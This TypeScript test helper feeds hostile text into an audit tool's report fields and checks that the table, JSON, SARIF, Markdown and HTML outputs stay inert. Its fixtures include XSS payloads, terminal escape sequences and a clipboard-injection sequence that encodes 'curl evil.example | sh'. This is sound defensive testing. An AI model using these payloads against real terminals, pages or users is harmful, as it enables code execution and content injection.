/**
 * Hostile text in every field a report draws from outside, rendered in every output format, and
 * the checks that each output stayed inert: the shared machinery of the report class tests (one
 * control or bidi character at a time) and the report fuzzing (seeded random hostile text).
 *
 * A scenario is built from packages (hand-made, or read from a real lock) by passing every outside
 * value through `plant`: names, versions, builds, channels, index URLs, URLs, file names, advisory
 * ids, aliases, summaries, references, waivers, reasons, warnings, feeds.
 */

import { diffInventories, type LockDiff } from '../../src/diff/lock-diff.ts';
import type { AuditResult } from '../../src/engine/run-checks.ts';
import type { Finding } from '../../src/model/finding.ts';
import { emptyManifest, type Inventory } from '../../src/model/inventory.ts';
import { comparePackages, type Package } from '../../src/model/package.ts';
import { defaultPolicy } from '../../src/policy/policy.ts';
import { renderDiffJson, renderDiffMarkdown, renderDiffTable } from '../../src/report/diff.ts';
import { FORMAT_NAMES, loadRenderer } from '../../src/report/formats.ts';
import { reportPolicy } from '../../src/report/from-audit.ts';
import { renderInventoryJson } from '../../src/report/inventory-json.ts';
import { renderInventoryTable } from '../../src/report/inventory-table.ts';
import { type ReportInput, TOOL } from '../../src/report/report.ts';
import { condaPackage, pypiPackage, ROOT } from '../unit/report/sbom-fixtures.ts';
import { pick } from './random.ts';

export { ROOT };
export const NOW = new Date('2026-11-20T12:00:00Z');

/** Turns a value as a well-behaved lock or feed would write it into the value the test plants. */
export type Plant = (value: string) => string;

export interface HostileScenario {
  report: ReportInput;
  diff: LockDiff;
  diffAudit: AuditResult;
}

/** Every output cvebuild writes from outside text. */
export const OUTPUTS = [
  'table',
  'json',
  'sarif',
  'markdown',
  'html',
  'cyclonedx',
  'spdx',
  'inventory-table',
  'inventory-json',
  'diff-table',
  'diff-json',
  'diff-markdown',
] as const;
export type OutputName = (typeof OUTPUTS)[number];

export const JSON_OUTPUTS: readonly OutputName[] = [
  'json',
  'sarif',
  'cyclonedx',
  'spdx',
  'inventory-json',
  'diff-json',
];
export const TABLE_OUTPUTS: readonly OutputName[] = ['table', 'inventory-table', 'diff-table'];
export const MARKDOWN_OUTPUTS: readonly OutputName[] = ['markdown', 'diff-markdown'];

// ---------------------------------------------------------------------------------------------
// Scenarios

/** A conda and a PyPI package of the given names, the way a pixi lock records them. */
export function basePackages(): Package[] {
  const conda = (name: string, version: string, build: string): Package =>
    condaPackage(name, version, { build, buildNumber: 0, license: 'MIT' });
  const pypi = (name: string, version: string): Package =>
    pypiPackage(name, version, { purls: [`pkg:pypi/${name}@${version}`] });
  return [
    conda('openssl', '3.0.7', 'h0b41bf4_1'),
    conda('python', '3.12.7', 'hc5c86c4_0_cpython'),
    pypi('litellm', '1.82.7'),
    { ...pypi('tool', '0.1.0'), kind: 'git', location: 'git+https://github.com/org/tool.git@v0.1.0', url: undefined },
  ];
}

/** Every outside field of a package planted. */
export function plantPackage(pkg: Package, plant: Plant): Package {
  return {
    ...pkg,
    name: plant(pkg.name),
    version: plant(pkg.version),
    build: pkg.build === undefined ? undefined : plant(pkg.build),
    subdir: pkg.subdir === undefined ? undefined : plant(pkg.subdir),
    channel: pkg.channel === undefined ? undefined : plant(pkg.channel),
    index: pkg.index === undefined ? undefined : plant(pkg.index),
    url: pkg.url === undefined ? undefined : plant(pkg.url),
    location: plant(pkg.location),
    license: plant(pkg.license ?? 'MIT'),
    environments: pkg.environments.map(plant),
    purls: pkg.purls.map(plant),
    origin: { ...pkg.origin, file: `${ROOT}/${plant('pixi.lock')}` },
  };
}

function inventoryOf(packages: Package[], plant: Plant): Inventory {
  const names = [...new Set(packages.flatMap((pkg) => pkg.environments))].sort();
  return {
    sources: [
      {
        path: `${ROOT}/${plant('pixi.lock')}`,
        format: 'pixi-lock',
        formatVersion: 6,
        records: { conda: 2, pypi: 2, condaSource: 0 },
      },
    ],
    environments: names.map((name) => ({
      name,
      channels: [plant('https://conda.anaconda.org/conda-forge')],
      indexes: [plant('https://pypi.org/simple')],
      options: {},
      platforms: [
        {
          name: 'linux-64',
          subdir: 'linux-64',
          virtualPackages: [],
          packages: packages.filter((pkg) => pkg.environments.includes(name)),
        },
      ],
    })),
    packages: [...packages].sort(comparePackages),
    manifest: {
      ...emptyManifest(),
      dependencies: [
        {
          ecosystem: 'pypi',
          name: plant('litellm'),
          normalizedName: 'litellm',
          spec: plant('>=1.82'),
          index: plant('https://pypi.org/simple'),
          reference: plant('git+https://github.com/org/litellm.git'),
          scope: 'run',
          group: plant('default'),
          origin: { file: `${ROOT}/${plant('pixi.toml')}`, line: 3 },
        },
      ],
    },
    warnings: [
      { message: plant('record 3 has no sha256'), origin: { file: `${ROOT}/${plant('pixi.lock')}`, line: 3 } },
    ],
  };
}

function findingsFor(packages: Package[], plant: Plant): Finding[] {
  const subject = (pkg: Package) => ({
    ecosystem: pkg.ecosystem,
    name: pkg.name,
    version: pkg.version,
    build: pkg.build,
    platform: pkg.platform,
    environments: pkg.environments,
  });
  const [first, second, third] = packages as [Package, Package, Package];
  const summary = plant('Buffer overflow in X.509 verification, see https://example.org/advisory');
  return [
    {
      check: 'vulnerability',
      checkVersion: 1,
      rule: plant('GHSA-abcd-efgh-ijkl'),
      severity: 'high',
      subject: subject(first),
      message: plant(`${first.name} ${first.version} is affected`),
      evidence: {
        summary,
        references: [plant('https://www.openssl.org/news/secadv/20221101.txt'), plant('https://github.com/advisories')],
        fixed: [plant('3.0.7')],
        safeVersion: plant('3.0.8'),
        cwes: [plant('CWE-787')],
        vectors: ['CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H'],
        score: 9.8,
        source: plant('osv-pypi'),
        mappedBy: plant('purl'),
      },
      flags: { aliases: [plant('CVE-2022-3602'), plant('PYSEC-2022-1')], kev: { dateAdded: plant('2026-01-01') } },
      remedy: plant('upgrade to 3.0.8'),
      location: first.origin,
      blocking: true,
    },
    {
      check: 'malicious',
      checkVersion: 1,
      rule: plant('MAL-2026-2144'),
      severity: 'critical',
      subject: subject(third),
      message: plant(`${third.name} ${third.version} is malicious`),
      evidence: { summary: plant('Credential stealer'), references: [plant('https://osv.dev/x')] },
      flags: { malicious: true, aliases: [] },
      remedy: plant('remove it'),
      location: third.origin,
      blocking: true,
    },
    {
      check: 'typosquat',
      checkVersion: 1,
      rule: plant('typosquat'),
      severity: 'medium',
      subject: subject(second),
      message: plant(`${second.name} looks like pyhton`),
      evidence: { popular: plant('python'), distance: 1, [plant('key')]: plant('value') },
      location: second.origin,
      waiver: {
        id: plant('typosquat'),
        package: plant(second.name),
        reason: plant('reviewed: <not> a typosquat'),
        by: plant('alice@example.org'),
        expires: plant('2026-12-31'),
        origin: { file: `${ROOT}/${plant('cvebuild.toml')}`, line: 7 },
      },
    },
    {
      check: 'secrets',
      checkVersion: 1,
      rule: 'url-credentials',
      severity: 'critical',
      message: plant('.env:3: Credentials in a URL'),
      evidence: {
        path: plant('.env'),
        engine: 'cvebuild',
        confidence: 'high',
        cwes: ['CWE-798'],
        snippet: plant('INDEX_URL=https://pypi.example.com/simple'),
        masked: '**** (16 chars)',
        fingerprint: '0123456789ab',
      },
      location: { file: `${ROOT}/${plant('.env')}`, line: 3, column: 11, endLine: 3, endColumn: 27 },
      blocking: true,
    },
    {
      check: 'sources',
      checkVersion: 1,
      rule: plant('sources/untrusted-channel'),
      severity: 'high',
      subject: subject(first),
      message: plant(`${first.name} comes from the channel ${first.channel ?? ''}`),
      evidence: { from: plant(first.channel ?? ''), ecosystem: 'conda' },
      location: first.origin,
    },
  ];
}

/** The scenario with every outside value passed through `plant` (identity: a clean report). */
export function hostileScenario(plant: Plant, packages: Package[] = basePackages()): HostileScenario {
  const planted = packages.map((pkg) => plantPackage(pkg, plant));
  const inventory = inventoryOf(planted, plant);
  const findings = findingsFor(planted, plant);
  const verdict = {
    outcome: 'fail' as const,
    reasons: findings.filter((f) => f.blocking).map((f) => `${f.check}: ${f.message}`),
    warnings: [plant('waiver for CVE-2000-0001 (cvebuild.toml:12) matches no finding')],
  };
  const report: ReportInput = {
    tool: TOOL,
    generatedAt: NOW,
    target: plant('examples/project'),
    root: ROOT,
    inventory,
    findings,
    verdict,
    checks: [{ id: 'vulnerability', version: 1, title: 'Known vulnerabilities' }],
    policy: { ...reportPolicy(defaultPolicy()), source: `${ROOT}/${plant('cvebuild.toml')}` },
    intel: {
      label: plant('/cache/cvebuild/intel.db'),
      schemaVersion: 1,
      feeds: [
        {
          name: plant('osv-pypi'),
          url: plant('https://osv.example/pypi.zip'),
          fetchedAt: '2026-11-20T00:00:00Z',
          count: 7,
        },
      ],
    },
    undecided: [plant('numpy@2.0: PYSEC-2099-1 (version not readable)')],
  };
  // The lock before the update: other versions, builds and hashes of the same packages.
  const older = planted.map((pkg, i) => ({
    ...pkg,
    version: i % 2 === 0 ? plant('0.9') : pkg.version,
    build: pkg.build === undefined ? undefined : plant('h0_0'),
    sha256: i === 1 ? 'd'.repeat(64) : pkg.sha256,
    channel: pkg.channel === undefined ? undefined : plant('https://private.example/conda'),
    environments: [...pkg.environments],
  }));
  const diff = diffInventories(inventoryOf(older, plant), inventory);
  const policy = defaultPolicy();
  const diffAudit: AuditResult = {
    findings,
    summary: { undecided: report.undecided } as AuditResult['summary'],
    verdict,
    checks: report.checks.map((check) => ({ ...check, status: 'ok' as const, ms: 0, findings: 0 })),
    policy,
  };
  return { report, diff, diffAudit };
}

/** Every output of the scenario, by name. */
export async function renderAll(scenario: HostileScenario): Promise<Record<OutputName, string>> {
  const reports = Object.fromEntries(
    await Promise.all(FORMAT_NAMES.map(async (format) => [format, (await loadRenderer(format))(scenario.report)])),
  ) as Record<(typeof FORMAT_NAMES)[number], string>;
  return {
    ...reports,
    'inventory-table': renderInventoryTable(scenario.report.inventory),
    'inventory-json': renderInventoryJson(scenario.report.inventory),
    'diff-table': renderDiffTable(scenario.diff, scenario.diffAudit),
    'diff-json': renderDiffJson(scenario.diff, scenario.diffAudit),
    'diff-markdown': renderDiffMarkdown(scenario.diff, scenario.diffAudit),
  };
}

// ---------------------------------------------------------------------------------------------
// Hostile text

/** The characters and sequences that change how text is shown, one case each. */
export function controlCases(): { label: string; text: string }[] {
  const hex = (code: number) => code.toString(16).padStart(4, '0');
  const cases: { label: string; text: string }[] = [];
  for (let code = 0; code < 0x20; code++) cases.push({ label: `C0 U+${hex(code)}`, text: String.fromCharCode(code) });
  cases.push({ label: 'DEL U+007f', text: '\u007f' });
  for (let code = 0x80; code < 0xa0; code++)
    cases.push({ label: `C1 U+${hex(code)}`, text: String.fromCharCode(code) });
  cases.push(
    { label: 'ESC CSI clear screen', text: '\u001b[2J\u001b[H' },
    { label: 'ESC CSI colour', text: '\u001b[31mred\u001b[0m' },
    { label: 'ESC CSI cursor up and erase line', text: '\u001b[1A\u001b[2K' },
    { label: 'ESC OSC window title (BEL)', text: '\u001b]0;owned\u0007' },
    { label: 'ESC OSC window title (ST)', text: '\u001b]2;owned\u001b\\' },
    { label: 'ESC OSC 8 hyperlink', text: '\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\' },
    { label: 'ESC OSC 52 clipboard', text: '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007' },
    { label: 'C1 CSI U+009b clear screen', text: '\u009b2J' },
    { label: 'C1 OSC U+009d title', text: '\u009d0;owned\u009c' },
  );
  for (const code of [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c])
    cases.push({ label: `bidi U+${hex(code)}`, text: String.fromCharCode(code) });
  cases.push(
    { label: 'line separator U+2028', text: '\u2028' },
    { label: 'paragraph separator U+2029', text: '\u2029' },
    { label: 'byte order mark U+feff', text: '\ufeff' },
    { label: 'tag character U+e0041', text: '\u{e0041}' },
  );
  return cases;
}

/** Characters no output may carry raw (outputs keep their own newlines; Markdown its zero-width spaces). */
export const UNSAFE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;

const MARKUP = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '</textarea><b>bold</b>',
  '<!-- comment -->',
  ']]><![CDATA[',
  '[click](javascript:alert(1))',
  '![pixel](https://evil.example/p.png)',
  '[ref]: https://evil.example/',
  '<https://evil.example/>',
  'https://evil.example/path',
  'http://localhost:8080/x',
  'www.evil.example',
  'WWW.EVIL.EXAMPLE',
  '@octocat',
  'ping @github/security',
  'mail alice@example.org',
  'mailto:bob@example.org',
  '**bold** _em_ ~~strike~~',
  '`code` ``two``',
  '| cell | cell |',
  '# heading',
  '> quote',
  '- item',
  '1. item',
  '<details><summary>x</summary>',
  '&amp; &lt; &#x3c;',
  '\\ backslash \\[',
  '{{ template }} $' + '{x} %(x)s',
  'GHSA-<x>[y]',
  '\nFORGED line',
  '\r\nFORGED line',
  '\u2028FORGED line',
];

/**
 * Seeded hostile text: control and bidi sequences, markup, mentions and autolinks, forged lines,
 * and URLs carrying credentials. Every credential is a fresh secret, recorded in `secrets`: none
 * may appear in any output.
 */
export class HostileText {
  readonly secrets: string[] = [];
  private readonly controls = controlCases();

  private readonly random: () => number;

  constructor(random: () => number) {
    this.random = random;
  }

  /** A secret of letters no hash, base64 or our own text would contain by chance. */
  secret(): string {
    const alphabet = 'ghijklmnopqrstuvwxyzGHIJKLMNOPQRSTUVWXYZ';
    let out = 'Qz';
    for (let i = 0; i < 16; i++) out += alphabet[Math.floor(this.random() * alphabet.length)];
    this.secrets.push(out);
    return out;
  }

  credentialUrl(): string {
    const forms: ((s: string) => string)[] = [
      (s) => `https://alice:${s}@pypi.example.com/simple`,
      (s) => `https://${s}@github.com/org/repo.git`,
      (s) => `https://${s}:x-oauth-basic@github.com/org/repo.git`,
      (s) => `https://alice:p@${s}@host.example/x`,
      (s) => `https://alice:p%40${s}@host.example/x`,
      (s) => `https://alice:p/${s}@host.example/x`,
      (s) => `git+https://${s}@gitlab.example/org/repo.git@v1`,
      (s) => `git+ssh://git:${s}@host.example/org/repo.git`,
      (s) => `https://__token__:${s}@pypi.example.com/simple`,
      (s) => `https://conda.anaconda.org/t/${s}/private/linux-64/x-1-0.conda`,
      (s) => `conda.anaconda.org/t/${s}/private`,
      (s) => `https://host.example/x?token=${s}&page=2`,
      (s) => `https://host.example/x?access_token=${s}`,
      (s) => `https://host.example/x?api_key=${s}`,
      (s) => `https://maps.example/x?key=${s}`,
      (s) => `https://host.example/x?password=${s}`,
      (s) => `https://host.example/x?secret=${s}`,
      (s) => `https://a.blob.example/c?sv=1&sig=${s}`,
      (s) => `https://b.s3.example/k?X-Amz-Credential=${s}&X-Amz-Signature=${s}`,
      (s) => `https://host.example/cb#access_token=${s}`,
      (s) => `redis://:${s}@cache.example:6379/0`,
    ];
    return pick(this.random, forms)(this.secret());
  }

  fragment(): string {
    const roll = this.random();
    if (roll < 0.3) return pick(this.random, this.controls).text;
    if (roll < 0.6) return pick(this.random, MARKUP);
    if (roll < 0.85) return this.credentialUrl();
    return pick(this.random, ['x', '1.0', 'linux-64', ' ', '', 'über', '日本', '😀']);
  }

  /** `value` with one to four hostile fragments put before, after or in place of it (never empty). */
  text(value: string): string {
    const parts = [value];
    const count = 1 + Math.floor(this.random() * 4);
    for (let i = 0; i < count; i++) {
      const fragment = this.fragment();
      const where = this.random();
      if (where < 0.4) parts.push(fragment);
      else if (where < 0.8) parts.unshift(fragment);
      else parts.splice(0, parts.length, fragment);
    }
    const text = parts.join(this.random() < 0.5 ? ' ' : '');
    // Readers refuse empty names and versions; hostile text is never empty either.
    return text === '' ? `${value}x` : text;
  }
}

// ---------------------------------------------------------------------------------------------
// What must hold of the outputs

/** Every way the outputs fail to be inert, as lines; empty when they hold. */
export function outputProblems(
  outputs: Record<OutputName, string>,
  secrets: readonly string[],
  clean: CleanShape,
): string[] {
  const problems: string[] = [];
  for (const name of OUTPUTS) {
    const output = outputs[name];
    const report = (message: string) => problems.push(`${name}: ${message}`);
    const raw = [...output].find(
      (char) => UNSAFE.test(char) && char !== '\n' && !(MARKDOWN_OUTPUTS.includes(name) && char === '\u200b'),
    );
    if (raw !== undefined)
      report(`raw U+${raw.codePointAt(0)?.toString(16).padStart(4, '0')} at ${context(output, output.indexOf(raw))}`);
    const forged = /^FORGED/m.exec(output);
    if (forged) report(`a planted line break started a line: ${context(output, forged.index)}`);
    for (const secret of secrets) {
      const leak = leakOf(output, secret);
      if (leak !== undefined) report(`credential ${secret} leaks: ${context(output, leak)}`);
    }
    if (JSON_OUTPUTS.includes(name)) {
      try {
        JSON.parse(output);
      } catch (error) {
        report(`not JSON: ${(error as Error).message}`);
      }
    }
  }
  problems.push(...htmlProblems(outputs.html, clean).map((problem) => `html: ${problem}`));
  for (const name of MARKDOWN_OUTPUTS)
    problems.push(...markdownProblems(outputs[name]).map((problem) => `${name}: ${problem}`));
  problems.push(...sarifProblems(outputs.sarif).map((problem) => `sarif: ${problem}`));
  return problems;
}

/** Where in the output a secret, or an 8-character piece of it (also lower-cased), appears. */
function leakOf(output: string, secret: string): number | undefined {
  const lower = output.toLowerCase();
  for (let i = 0; i + 8 <= secret.length; i++) {
    const piece = secret.slice(i, i + 8);
    const at = output.indexOf(piece);
    if (at !== -1) return at;
    const folded = lower.indexOf(piece.toLowerCase());
    if (folded !== -1) return folded;
  }
  return undefined;
}

function context(text: string, at: number): string {
  return JSON.stringify(text.slice(Math.max(0, at - 60), at + 60));
}

/** The tags and attributes a clean page has: a hostile page may have no others. */
export interface CleanShape {
  tags: Set<string>;
  attributes: Set<string>;
  scripts: number;
}

const TAG =
  /<(\/?)([A-Za-z][A-Za-z0-9-]*)((?:\s+[^\s"'>/=]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'=<>`]+))?)*)\s*\/?>|<!--[\s\S]*?-->|<!DOCTYPE html>/g;
const ATTRIBUTE = /([^\s"'>/=]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'=<>`]+)))?/g;

/** The page with the bodies of its (own, hashed) script and stylesheet left out. */
function markupOf(html: string): string {
  return html.replace(/(<script>|<style>)[\s\S]*?(<\/script>|<\/style>)/g, '$1$2');
}

export function cleanShape(page: string): CleanShape {
  const html = markupOf(page);
  const tags = new Set<string>();
  const attributes = new Set<string>();
  for (const tag of html.matchAll(TAG)) {
    if (!tag[2]) continue;
    tags.add(tag[2].toLowerCase());
    for (const attribute of (tag[3] ?? '').matchAll(ATTRIBUTE)) attributes.add((attribute[1] ?? '').toLowerCase());
  }
  return { tags, attributes, scripts: html.match(/<script\b/g)?.length ?? 0 };
}

/**
 * The page parsed back as tags: every `<` starts a tag of the clean page's kinds with the clean
 * page's attributes (so a planted `<` was escaped and no element or attribute was injected), one
 * script, and links only to http(s), in-page anchors or the data: favicon.
 */
export function htmlProblems(page: string, clean: CleanShape): string[] {
  const html = markupOf(page);
  const problems: string[] = [];
  let tags = 0;
  for (const tag of html.matchAll(TAG)) {
    tags++;
    const name = tag[2]?.toLowerCase();
    if (!name) continue;
    if (!clean.tags.has(name)) problems.push(`injected <${name}>: ${context(html, tag.index)}`);
    for (const attribute of (tag[3] ?? '').matchAll(ATTRIBUTE)) {
      const key = (attribute[1] ?? '').toLowerCase();
      const value = attribute[2] ?? attribute[3] ?? attribute[4] ?? '';
      if (!clean.attributes.has(key)) problems.push(`injected attribute ${key}: ${context(html, tag.index)}`);
      if (key === 'href' && !/^(https?:\/\/|#|data:image\/svg\+xml,)/.test(value))
        problems.push(`link to ${value}: ${context(html, tag.index)}`);
    }
  }
  const opens = html.split('<').length - 1;
  if (opens !== tags) problems.push(`${opens - tags} '<' that start no known tag`);
  const scripts = html.match(/<script\b/g)?.length ?? 0;
  if (scripts !== clean.scripts) problems.push(`${scripts} scripts, the clean page has ${clean.scripts}`);
  return problems;
}

const OUR_LINKS =
  /^(https:\/\/osv\.dev\/vulnerability\/|https:\/\/www\.cve\.org\/CVERecord\?id=|https:\/\/cwe\.mitre\.org\/data\/definitions\/)/;
const OUR_MARKUP = /<!-- cvebuild:report -->|<\/?details>|<\/?summary>|^> \[!WARNING\]$/gm;

/** Whether the character at `index` is escaped by an odd run of backslashes before it. */
function escaped(text: string, index: number): boolean {
  let count = 0;
  for (let i = index - 1; i >= 0 && text[i] === '\\'; i--) count++;
  return count % 2 === 1;
}

/**
 * The text with each code span (literal in Markdown) replaced by `CODE`: an unescaped run of
 * backticks to the next run of the same length, within one line and one table cell (GFM splits
 * cells at unescaped pipes first). A run without a closing one is literal backticks.
 */
function withoutCodeSpans(markdown: string): string {
  let out = '';
  let i = 0;
  while (i < markdown.length) {
    if (markdown[i] !== '`' || escaped(markdown, i)) {
      out += markdown[i];
      i++;
      continue;
    }
    let j = i;
    while (markdown[j] === '`') j++;
    let close = -1;
    for (let k = j; k < markdown.length && markdown[k] !== '\n' && !(markdown[k] === '|' && !escaped(markdown, k)); ) {
      if (markdown[k] !== '`') {
        k++;
        continue;
      }
      let end = k;
      while (markdown[end] === '`') end++;
      if (end - k === j - i) {
        close = k;
        break;
      }
      k = end;
    }
    if (close === -1) {
      out += markdown.slice(i, j);
      i = j;
    } else {
      out += 'CODE';
      i = close + (j - i);
    }
  }
  return out;
}

/**
 * GitHub-flavoured Markdown that renders as text: no raw HTML but our own tags, no link but ours
 * (to osv.dev, cve.org, cwe.mitre.org), no bare URL, `www.` or e-mail address a renderer would
 * autolink, no @mention. Code spans are literal, so they are set aside first.
 */
export function markdownProblems(markdown: string): string[] {
  const problems: string[] = [];
  const spans = withoutCodeSpans(markdown);
  // Our links: [label](destination) with an unescaped bracket; the label is escaped text.
  let text = '';
  let at = 0;
  // An unescaped `[` (after an even run of backslashes), an escaped label, `](`, the destination.
  for (const link of spans.matchAll(/(?<=(?:^|[^\\])(?:\\\\)*)\[((?:\\.|[^\]\\])*)\]\(([^)\s]*)\)/g)) {
    if (!OUR_LINKS.test(link[2] ?? '')) problems.push(`live link to ${link[2]}: ${context(spans, link.index)}`);
    text += `${spans.slice(at, link.index)}LINK(${link[1]})`;
    at = link.index + link[0].length;
  }
  text += spans.slice(at);
  text = text.replace(OUR_MARKUP, '');
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if ((char === '[' || char === ']') && !escaped(text, i)) problems.push(`unescaped ${char}: ${context(text, i)}`);
    if (char === '<') problems.push(`raw HTML: ${context(text, i)}`);
  }
  for (const match of text.matchAll(/[A-Za-z][A-Za-z0-9+.-]*:\/\/|www\./gi))
    problems.push(`autolink ${match[0]}: ${context(text, match.index)}`);
  for (const match of text.matchAll(/@[A-Za-z0-9]/g)) problems.push(`mention or e-mail: ${context(text, match.index)}`);
  return problems;
}

/** SARIF that tools show as text: `helpUri` an absolute URI of URI characters, no embedded link in a message. */
export function sarifProblems(sarif: string): string[] {
  const problems: string[] = [];
  const document = JSON.parse(sarif) as {
    runs: {
      tool: { driver: { rules: { id: string; helpUri?: string }[] } };
      results: { message: { text: string } }[];
    }[];
  };
  for (const run of document.runs) {
    for (const rule of run.tool.driver.rules) {
      if (
        rule.helpUri !== undefined &&
        !/^https:\/\/[A-Za-z0-9.-]+\/[A-Za-z0-9\-._~!$&'()*+,;=:@/?%]*$/.test(rule.helpUri)
      )
        problems.push(`rule ${JSON.stringify(rule.id)}: helpUri ${JSON.stringify(rule.helpUri)}`);
    }
    for (const result of run.results) {
      const text = result.message.text;
      for (let i = 0; i < text.length; i++)
        if ((text[i] === '[' || text[i] === ']') && !escaped(text, i))
          problems.push(`message with an embedded link: ${JSON.stringify(text)}`);
      if (UNSAFE.test(text.replace(/\n/g, ''))) problems.push(`message with a control: ${JSON.stringify(text)}`);
    }
  }
  return problems;
}
